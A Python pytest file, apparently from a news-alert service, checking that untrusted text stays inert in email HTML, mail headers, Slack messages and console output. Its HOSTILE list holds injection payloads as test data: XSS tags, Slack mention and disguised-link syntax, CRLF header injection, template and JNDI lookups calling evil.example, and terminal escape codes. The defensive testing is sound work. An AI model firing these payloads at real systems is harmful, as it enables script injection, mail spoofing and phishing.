"""Every text from outside is shown harmlessly, in mail and in Slack."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from email import message_from_string, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest

from worker.alerts.channel import Address
from worker.alerts.console import Console
from worker.alerts.email import Email
from worker.alerts.html import html
from worker.alerts.message import text
from worker.alerts.slack import Slack
from worker.alerts.view import AlertKind, AlertView, Carrier, Line, Named, Passage, Told
from worker.watchlist.schema import ConsoleChannel, EmailChannel, SlackChannel

NOON = datetime(2026, 3, 4, 12, 0, tzinfo=UTC)
HOSTILE = [
    # Slack's own syntax
    "<!channel> look", "<!here>", "<!everyone|hello>", "<@U0123456789>", "<@U0123456789|boss>",
    "<#C0123456789|general>", "<!subteam^S0123456789|@desk>", "<!date^1392734382^{date}|x>", "<https://evil.example|https://bank.example>",
    "<https://evil.example|Open the article>", "<mailto:a@evil.example|mail us>", "<tel:+100|call>",
    "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "\uff1c!channel\uff1e", "<\u200b!channel>", "<!\u2060here>",
    "@channel @here @everyone", ":skull: :white_check_mark:", "*bold* _under_ ~gone~ `code`", "```\nblock\n```",
    "> quoted\n>>> all", "[text](https://evil.example)", "| pipe || pipe |", "<", ">", "&", "<>", "<|>",
    # HTML
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<img src=https://evil.example/pixel.png>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>", "<object data=https://evil.example>", "<embed src=//evil.example>",
    "<link rel=stylesheet href=https://evil.example/a.css>", "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>", "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example'>https://bank.example</a>", '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<body background=https://evil.example/a.png>", '<div style="background:url(https://evil.example)">',
    '<!--[if mso]><v:rect fill="https://evil.example"><![endif]-->', "<!-- comment -->", "<![CDATA[<script>]]>",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "<scr\0ipt>alert(1)</scr\0ipt>", "\u003cscript\u003e", "<plaintext>",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example}", "{{ shown.link.url }}",
    # headers and lines
    "title\r\nBcc: all@desk.example", "title\nSubject: other", "title\r\n\r\n<script>alert(1)</script>",
    "a\x0bb\x0cc\x1cd", "a\x85b\u2028c\u2029d", "=?utf-8?q?=0ABcc:_x@y.example?=", "=?utf-8?b?PHNjcmlwdD4=?=",
    ".\r\n.\r\nQUIT\r\n",
    # what cannot be seen, and what breaks
    "\u202eelpmaxe.knab\u202c", "\u2066evil\u2069", "zero\u200bwidth\u200djoin\ufeff", "\u00adsoft\u00adhyphen",
    "Z\u0310\u0311\u0312\u0313\u0314\u0315\u0316\u0317\u0318\u0319algo" * 20, "\ud800 half", "\x00\x01\x02",
    "\x1b[2J\x1b]0;t\x07",
    "\U000e0041tag", "\u3164", "x" * 20_000, "<" * 5000, "слово " * 5000, "https://bank.example/login", "",
]  # fmt: skip
LIVE = re.compile(r"<(?:[!@#]|[a-z]+:|https?:)[^>]*>?", re.IGNORECASE)
ADDRESS = Address(delivery="d", recipient="desk@desk.example")


def view(hostile: str) -> AlertView:
    return AlertView(
        token="t",
        kind=AlertKind.UPDATE,
        at=NOON,
        headline=hostile,
        story=1,
        root="r",
        url="https://news.example/1?q=" + hostile[:500],
        source=hostile,
        entities=(Named(hostile, hostile, (hostile[:50],)), Named("Binance", hostile)),
        sentences=(hostile, "Binance " + hostile),
        carriers=(Carrier(hostile, hostile), Carrier(hostile, "https://evil.example/" + hostile[:500])),
        so_far=(Told(NOON, hostile),),
        passages=(Passage(hostile, (hostile,)),),
        lines=(Line(AlertKind.UPDATE, hostile, hostile, hostile, NOON, (hostile,), (hostile,), 1),),
        reason=hostile,
        body=hostile,
    )


class _Page(HTMLParser):
    """The elements of a page, and what they carry."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


ALLOWED = set("html head meta title style body div p h1 h2 ul li a strong span br".split())


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_mail_holds_no_mark_up_but_ours(hostile: str) -> None:
    page = html(view(hostile))
    found = _Page(page)
    assert set(found.tags) <= ALLOWED
    ours = _Page(html(view("plain")))
    assert found.tags.count("meta") == ours.tags.count("meta")
    assert not [name for _, name, _ in found.attributes if name.startswith("on") or name in {"src", "background"}]
    assert all(value.startswith("https://") for _, name, value in found.attributes if name == "href")
    assert "url(" not in "".join(value for _, name, value in found.attributes if name == "style")
    assert page.count("<style>") == 1
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b-\u200f\x00-\x08\x0b\x1b]", page)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_mail_headers_stay_in_their_lines(hostile: str) -> None:
    config = EmailChannel.model_validate(
        {"type": "email", "smtp": "smtp://localhost", "from": "wire@desk.example", "to": ["desk@desk.example"]}
    )
    source = Email("mail", config).render(view(hostile), ADDRESS)["message"]
    message = message_from_string(source, policy=policy.default)
    assert isinstance(message, EmailMessage)
    expected = {"Message-ID", "Date", "Subject", "From", "To", "In-Reply-To", "References", "Auto-Submitted", "List-Id"}
    expected |= {"X-Wirewatch-Verdict", "X-Wirewatch-Story", "X-Wirewatch-Url", "MIME-Version", "Content-Type"}
    assert set(message.keys()) == expected
    assert message["To"] == "desk@desk.example"
    assert not message.defects
    assert all(len(line) <= 998 for line in source.split("\r\n"))
    assert message.get_body(("plain",)) is not None


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("way", [{"webhook": "https://hooks.example/x"}, {"token": "xoxb-1", "channel": "C1"}])
def test_slack_holds_no_live_mention_and_no_disguised_link(hostile: str, way: dict[str, str]) -> None:
    payload = Slack("s", SlackChannel.model_validate({"type": "slack", **way})).render(view(hostile), ADDRESS)
    assert not re.search("[<>]", payload["text"])
    assert payload["mrkdwn"] is False
    blocks = payload["blocks"]
    assert len(blocks) <= 50
    assert len(json.dumps(blocks, ensure_ascii=False)) < 13_000
    for element in _elements(blocks):
        assert element["type"] != "mrkdwn"
        if element["type"] in {"text", "plain_text"}:
            assert not LIVE.search(element["text"])
            assert 0 < len(element["text"]) <= 3000
        if element["type"] == "header":
            assert len(element["text"]["text"]) <= 150
        if element["type"] == "link":
            assert element["url"].startswith("https://")
            assert element["text"] in {"Open the article", "evil.example", "news.example", "bank.example"}
        assert element["type"] not in {"user", "usergroup", "broadcast", "channel", "emoji", "image"}


def _elements(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        if "type" in value:
            yield value
        value = list(value.values())
    if isinstance(value, list):
        for each in value:
            yield from _elements(each)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_the_console_gets_no_control_character(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    console = Console("screen", ConsoleChannel.model_validate({"type": "console"}))
    console.send(console.render(view(hostile), ADDRESS))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", capsys.readouterr().out)


def test_the_largest_alert_is_shortened_and_not_refused() -> None:
    many = 400
    largest = replace(
        view("Пример 12% " * 400),
        url="https://news.example/" + "x" * 1900,
        entities=tuple(Named(f"Имя {number} " * 30, f"{number} миллионов. " * 100) for number in range(many)),
        sentences=tuple(f"Имя {number} получило {number} млн, 5%, 6%, 7%, 8% и 9%." for number in range(many)),
        carriers=tuple(Carrier("П" * 300, f"https://a{number}.example/" + "y" * 1900) for number in range(many)),
        so_far=tuple(Told(NOON, "История " * 90) for _ in range(many)),
        body="Строка.\n" * 50,
    )
    config = SlackChannel.model_validate({"type": "slack", "webhook": "https://hooks.example/x"})
    payload = Slack("s", config).render(largest, ADDRESS)
    assert len(json.dumps(payload["blocks"], ensure_ascii=False)) < 13_000
    assert "https://news.example/" in payload["text"]
    assert len(payload["text"]) < 4000
    assert len(html(largest)) < 100_000  # Gmail cuts a mail at 102 kB
    assert len(text(largest)) < 40_000
